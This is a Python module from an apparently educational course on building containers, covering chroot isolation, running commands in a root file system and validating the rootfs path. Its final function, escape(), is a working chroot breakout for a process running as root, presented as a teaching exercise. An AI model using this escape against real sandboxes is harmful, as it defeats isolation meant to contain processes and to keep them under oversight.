"""Stage 1: chroot.

The oldest wall of all (1979): a process and its children take another directory for "/". Programs, libraries,
configuration: whatever is not below that directory has no name any more. That is enough to run one Linux
distribution on another, and it is the file system every later stage stands in.

It is also the thinnest: it hides names, and takes no power away. Task 1.4 walks out through it.
"""

import errno
import os
from collections.abc import Mapping, Sequence

from thinwalls.wall import Program, Wall

from .stage00_process import launch

# What a program gets that was given no environment: a container has its own, never the caller's.
DEFAULT_ENV = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root"}


class Root(Wall):
    """The wall: the program's "/" is the directory ``rootfs`` (a path outside the container)."""

    def __init__(self, rootfs: str):
        self.rootfs = rootfs
        self.rootfs = check_rootfs(rootfs)  # task 1.3

    def inside(self) -> None:
        """Task 1.1: make the rootfs the root of the calling process (the child), and its working directory.

        The caller of launch() keeps its own root and working directory.

        Read: chroot(2), the second paragraph of its notes above all; chdir(2).
        """
        os.chroot(self.rootfs)
        os.chdir("/")  # chroot leaves the working directory where it was: outside


def run_in(rootfs: str, argv: Sequence[str], env: Mapping[str, str] | None = None) -> int:
    """Task 1.2: run a command in a root file system, and return its exit status.

    argv[0] without a slash is looked for in PATH of the container's own environment, among the container's own
    files. That environment is env, or DEFAULT_ENV where env is None; nothing of the caller's os.environ is in
    it. The program starts in "/". Uses launch() of stage 0 and Root; raises what they raise.

    Read: Program in thinwalls/wall.py.
    """
    program = Program(argv, env=DEFAULT_ENV if env is None else env, cwd="/")
    return launch(program, [Root(rootfs)])


def check_rootfs(rootfs: str) -> str:
    """Task 1.3: the absolute path of rootfs, with every symbolic link resolved, if a container can have it as root.

    Root calls it when it is made, so that a wrong path is an error before any process was started.

    Raises FileNotFoundError if there is nothing at that path, NotADirectoryError if it is no directory; the
    exception's filename is rootfs as it was given. (A program that is not there is launch()'s to report.)

    Read: os.path.realpath (with strict=True it raises too, and names the path as it was resolved), stat(2).
    """
    path = os.path.realpath(rootfs)
    if not os.path.exists(path):
        raise FileNotFoundError(errno.ENOENT, "No root file system there", rootfs)
    if not os.path.isdir(path):
        raise NotADirectoryError(errno.ENOTDIR, "Not a directory", rootfs)
    return path


def escape() -> None:
    """Task 1.4: the attack. Called inside the jail of Root, as uid 0: leave it.

    When it returns, the root directory of the calling process is the machine's own, and so is its working
    directory. Only system calls on the calling process itself: there is no helper outside.

    Read: chroot(2), "This call does not change the current working directory, so that ..."; path_resolution(7)
    on what ".." means in the root directory, and in a directory that is not below it.
    """
    os.makedirs("/jail", exist_ok=True)
    os.chroot("/jail")  # the working directory stays outside the new, smaller root ...
    for _ in range(64):
        os.chdir("..")  # ... so ".." never meets that root, and ends only at the real one
    os.chroot(".")
